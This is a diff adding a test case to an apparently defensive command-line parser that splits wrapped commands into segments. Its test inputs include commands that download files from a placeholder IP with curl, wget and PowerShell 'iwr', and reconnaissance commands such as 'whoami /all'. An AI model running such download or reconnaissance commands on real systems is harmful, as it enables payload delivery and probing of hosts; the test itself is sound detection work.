@@ -32,6 +32,13 @@ describe('programRuns: the programs a quoted command line really starts', () => 
     expect(images('curl.exe -o a http://x', false)[0]?.[0]).toBe('curl');
   });
 
+  it('reads a line the publisher wrapped before a URL or a switch, or after -Command, as one command', () => {
+    expect(commandSegments('curl -o a.msi\nhttp://203.0.113.5/a && \nexplorer /select,a.msi')).toEqual(['curl -o a.msi http://203.0.113.5/a', 'explorer /select,a.msi']);
+    expect(commandSegments('wget\n  -q http://203.0.113.5/a')).toEqual(['wget   -q http://203.0.113.5/a']);
+    expect(commandSegments('powershell.exe -Command \n"iwr http://203.0.113.5/a"')).toEqual(['powershell.exe -Command  "iwr http://203.0.113.5/a"']);
+    expect(commandSegments('whoami /all\nipconfig /all')).toEqual(['whoami /all', 'ipconfig /all']);
+  });
+
   it('splits at shell operators outside quotes only', () => {
     expect(commandSegments('a "x && y" && b | c; d & e')).toEqual(['a "x && y"', 'b', 'c', 'd', 'e']);
     expect(isShellBuiltin('FOR')).toBe(true);
